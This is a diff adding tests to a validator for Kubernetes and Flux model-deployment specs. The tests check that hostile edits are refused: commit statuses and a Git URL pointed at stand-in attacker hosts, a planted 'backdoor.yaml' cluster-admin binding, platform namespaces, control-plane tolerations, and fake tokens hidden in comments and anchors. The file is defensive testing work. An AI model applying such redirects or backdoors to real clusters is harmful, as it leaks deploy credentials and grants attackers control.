@@ -264,6 +264,32 @@ describe('secrets smuggled into the cluster, and managed settings overridden', (
     },
     'the managed-by label': { setup: (h) => replace(h, M, '    team: speech', '    app.kubernetes.io/managed-by: helm'), code: 1, error: `${M}:6:5: error: label "app.kubernetes.io/managed-by" is not yours to set: tritonops sets "app.kubernetes.io/managed-by" itself` },
     "Istio's sidecar switch as a pod label": { setup: (h) => replace(h, M, '    team: speech', '    sidecar.istio.io/inject: "false"'), code: 1, error: /^environments\/dev\/models\/whisper\.yaml:6:5: error: label "sidecar\.istio\.io\/inject" is not yours to set: the prefix "sidecar\.istio\.io\/" belongs to istio\.io/ },
+    "a platform namespace (the models could name its Secrets: Flux's deploy key, the mesh's CA)": {
+      setup: (h) => replace(h, E, 'spec:\n', 'spec:\n  namespace: flux-system\n'),
+      code: 1,
+      error: `${E}:7:14: error: namespace "flux-system" cannot hold models: the platform itself runs there`,
+    },
+    'kube-system as the namespace': { setup: (h) => replace(h, E, 'spec:\n', 'spec:\n  namespace: kube-system\n'), code: 1, error: `${E}:7:14: error: namespace "kube-system" cannot hold models: it belongs to Kubernetes` },
+    'commit statuses sent to another host than the Git repository': {
+      setup: (h) => replace(h, E, '    url: ssh://git@git.example.com/acme/platform.git', '    url: ssh://git@git.example.com/acme/platform.git\n    commitStatus: { provider: gitlab, address: "https://collector.attacker.example/acme/platform", secretRef: flux-commit-status }'),
+      code: 1,
+      error: /^environments\/dev\/environment\.yaml:9:\d+: error: commit statuses would go to collector\.attacker\.example, but the repository is on git\.example\.com/,
+    },
+    'a model named like the canary Deployment of another': {
+      setup: (h) => write(h, 'environments/dev/models/whisper-canary.yaml', read(h, M).replace('name: whisper', 'name: whisper-canary')),
+      code: 1,
+      error: 'environments/dev/models/whisper-canary.yaml:4:9: error: "whisper-canary" is the name tritonops gives the canary track of "whisper": the two would replace each other\'s objects',
+    },
+    "a model named default (the namespace's own mTLS policy)": {
+      setup: (h) => write(h, 'environments/dev/models/default.yaml', read(h, M).replace('name: whisper', 'name: default')),
+      code: 1,
+      error: 'environments/dev/models/default.yaml:4:9: error: "default" is the name of an object every environment has (its mTLS policy)',
+    },
+    'models on control-plane nodes': {
+      setup: (h) => replace(h, E, '      gpuMemory: 16Gi', '      gpuMemory: 16Gi\n      tolerations: [{ key: node-role.kubernetes.io/control-plane, operator: Exists, effect: NoSchedule }]'),
+      code: 1,
+      error: /^environments\/dev\/environment\.yaml:16:\d+: error: tolerating "node-role\.kubernetes\.io\/control-plane" would let models onto control-plane nodes/,
+    },
     'Pod Security relaxed through namespaceLabels': {
       setup: (h) => replace(h, E, 'spec:\n', 'spec:\n  namespaceLabels:\n    pod-security.kubernetes.io/enforce: privileged\n'),
       code: 1,
@@ -330,6 +356,40 @@ describe('the integrity check cannot be fooled', () => {
     }
   });
 
+  it('refuses files in a flux-system/ folder of an environment too: Flux applies them like any other', async () => {
+    await attack({
+      setup: (h) => {
+        mkdirSync(join(h.root, 'flux/clusters/dev/flux-system'), { recursive: true });
+        write(h, 'flux/clusters/dev/flux-system/backdoor.yaml', 'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: { name: pr-author-admin }\n');
+      },
+      command: ['synth', '--check'],
+      code: 1,
+      error: 'flux/clusters/dev/flux-system/backdoor.yaml: error: this file was not rendered by tritonops, yet Flux applies everything in flux/clusters/dev/',
+    });
+  });
+
+  it('diff lists every change to files under flux/ that no spec renders, for the reviewer to read', async () => {
+    const h = await repository();
+    mkdirSync(join(h.root, 'flux/bootstrap/dev'), { recursive: true });
+    write(h, 'flux/bootstrap/dev/extra.yaml', 'kind: ClusterRoleBinding\n');
+    for (const format of ['text', 'markdown', 'json']) {
+      const result = await runCli(['diff', '--base', 'HEAD', '--format', format], h.root);
+      expect(result.code, result.stderr).toBe(3);
+      expect(result.stdout).toContain('flux/bootstrap/dev/extra.yaml');
+    }
+    expect((await runCli(['diff', '--base', 'HEAD'], h.root)).stdout).toContain('files under flux/ that tritonops did not render changed; no spec describes them, so read them yourself:\n  added flux/bootstrap/dev/extra.yaml');
+  });
+
+  it("shows changes to where Flux fetches and sends its tokens, and to the environment's namespace and Secrets, first", async () => {
+    const h = await repository();
+    replace(h, E, 'url: ssh://git@git.example.com/acme/platform.git', 'url: ssh://git@git.attacker.example/acme/platform.git');
+    replace(h, E, 'credentialsSecret: s3-model-reader', 'credentialsSecret: another-secret');
+    const result = await runCli(['diff', '--base', 'HEAD'], h.root);
+    expect(result.code, result.stderr).toBe(3);
+    expect(result.stdout).toContain('  environment: git.url: ssh://git@git.example.com/acme/platform.git -> ssh://git@git.attacker.example/acme/platform.git');
+    expect(result.stdout).toMatch(/ {2}environment: s3: .*"credentialsSecret":"s3-model-reader".* -> .*"credentialsSecret":"another-secret"/);
+  });
+
   it("refuses a repository where Git tracks Nx's cache or tritonops' lock", async () => {
     await attack({
       setup: (h) => {
@@ -371,6 +431,21 @@ describe('credentials that used to pass the scan', () => {
       setup: (h) => replace(h, E, 'url: ssh://git@git.example.com/acme/platform.git', 'url: https://glpat-abcdefghij0123456789@git.example.com/acme/platform.git'),
       code: 1,
       error: `${E}:8:10: error: this looks like a credential (a URL with credentials as its user); specs are committed to Git and must not carry secrets`,
+    },
+    'a token as an anchor name': {
+      setup: (h) => replace(h, M, '  labels:', '  labels: &ghp_R2d2C3poBB8x9Y7zQwErTyUiOpAsDfGhJkLz'),
+      code: 1,
+      error: `${M}:5:12: error: this looks like a credential (an API token), outside any value: comments and YAML syntax are committed to Git too`,
+    },
+    'an AWS secret key after a prefix, in a comment': {
+      setup: (h) => replace(h, M, '  replicas: 1', '  replicas: 1 # rotate key/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY.'),
+      code: 1,
+      error: `${M}:11:28: error: this looks like a credential (an AWS secret access key), outside any value: comments and YAML syntax are committed to Git too`,
+    },
+    'a key name run together (DBPASSWORD)': {
+      setup: (h) => replace(h, M, '    TRANSFORMERS_OFFLINE: "1"', '    DBPASSWORD: hunter22'),
+      code: 1,
+      error: `${M}:15:17: error: this looks like a credential (a value under "DBPASSWORD"); specs are committed to Git and must not carry secrets`,
     },
     'a password reused through an alias': {
       setup: (h) => replace(h, M, '    team: speech', '    team: &shared hunter2-but-longer\n  annotations:\n    dbPassword: *shared'),
@@ -548,6 +623,22 @@ describe('output the cluster would reject or misroute is refused at the spec', (
       code: 1,
       error: `${M}:12:40: error: traffic.retries.perTryTimeout 99999999999999999999999h is longer than a day`,
     },
+    'a toleration with operator Exists and a value': {
+      setup: (h) => replace(h, E, '      gpuMemory: 16Gi', '      gpuMemory: 16Gi\n      tolerations: [{ key: pool, operator: Exists, value: a100, effect: NoSchedule }]'),
+      code: 1,
+      error: /^environments\/dev\/environment\.yaml:16:\d+: error: a toleration with operator Exists takes no value \(Kubernetes refuses it\)/,
+    },
+    'a toleration key whose prefix is past 253 characters': {
+      setup: (h) => replace(h, E, '      gpuMemory: 16Gi', `      gpuMemory: 16Gi\n      tolerations: [{ key: "${Array(5).fill('a'.repeat(60)).join('.')}/pool", operator: Exists, effect: NoSchedule }]`),
+      code: 1,
+      error: /^environments\/dev\/environment\.yaml:16:\d+: error: the prefix of label key "a{20}…" is 304 characters; Kubernetes allows 253/,
+    },
+    'a Flagger analysis interval in hours (its CRD takes seconds or minutes)': {
+      setup: (h) => replace(h, M, '  replicas: 1\n', '  replicas: 1\n  canary: { analysis: { interval: 1h } }\n'),
+      code: 1,
+      error: `${M}:12:35: error: spec.canary.analysis.interval "1h" is not in the expected format`,
+    },
+    'a Git branch that is no branch name': { setup: (h) => replace(h, E, '  git:\n', '  git:\n    branch: "-x y"\n'), code: 1, error: `${E}:8:13: error: "-x y" is not a Git branch name` },
     'an unknown YAML tag (!include would become a plain string)': { setup: (h) => replace(h, M, 'replicas: 1', 'replicas: !include replicas.yaml'), code: 1, error: `${M}:11:13: error: YAML tag "!include" is not supported` },
     'a raw NUL byte': { setup: (h) => replace(h, M, 'team: speech', 'team: spe\u0000ech'), code: 1, error: `${M}:6:14: error: the file contains the character "\\u0000", which YAML does not allow`, also: 'U+0000 NULL' },
     'a spec named bert.YAML (would be ignored)': { setup: (h) => writeFileSync(join(h.root, 'environments/dev/models/bert.YAML'), read(h, M)), code: 1, error: 'environments/dev/models/bert.YAML:1:1: error: this file is not read: model specs end in ".yaml"', also: 'rename it to bert.yaml' },
